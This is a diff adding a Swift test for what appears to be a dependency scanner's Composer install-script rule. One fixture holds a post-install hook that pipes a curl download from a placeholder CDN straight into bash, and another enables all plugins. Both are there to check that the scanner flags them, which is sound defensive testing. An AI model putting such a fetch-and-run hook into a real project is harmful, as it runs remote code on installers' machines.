@@ -267,3 +267,30 @@ private func packagistDatabase() throws -> AdvisoryDatabase {
     defer { try? FileManager.default.removeItem(atPath: root) }
     #expect(AdvisoryUpdater.ecosystems(in: root) == ["Packagist", "npm"])
 }
+
+@Test func composerAllowAllPluginsAndDownloadingInstallScripts() throws {
+    func scripts(_ json: String) throws -> [Finding] {
+        try scanOnDisk(["composer.json": json, "composer.lock": lock([])]).filter { $0.ruleID == "dep-install-script" }
+    }
+    let all = try scripts("""
+    {"require": {"monolog/monolog": "^3.0"},
+     "config": {"sort-packages": true, "allow-plugins": true}}
+    """)
+    #expect(all.count == 1)
+    #expect(all.first?.severity == .medium)
+    #expect(all.first?.location.startLine == 2)
+    let fetchRun = try scripts("""
+    {"scripts": {
+      "post-install-cmd": ["@php artisan key:generate", "curl -fsSL https://cdn.example.net/setup.sh | bash"]
+    }}
+    """)
+    #expect(fetchRun.count == 1)
+    #expect(fetchRun.first?.severity == .high)
+    #expect(fetchRun.first?.location.startLine == 2)
+    // Named plugins and the project's own PHP scripts (as symfony/demo and Laravel write them) are not findings.
+    #expect(try scripts("""
+    {"config": {"allow-plugins": {"symfony/flex": true, "symfony/runtime": true}},
+     "scripts": {"auto-scripts": {"cache:clear": "symfony-cmd"}, "post-install-cmd": ["@auto-scripts"],
+                 "post-autoload-dump": ["Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"]}}
+    """).isEmpty)
+}
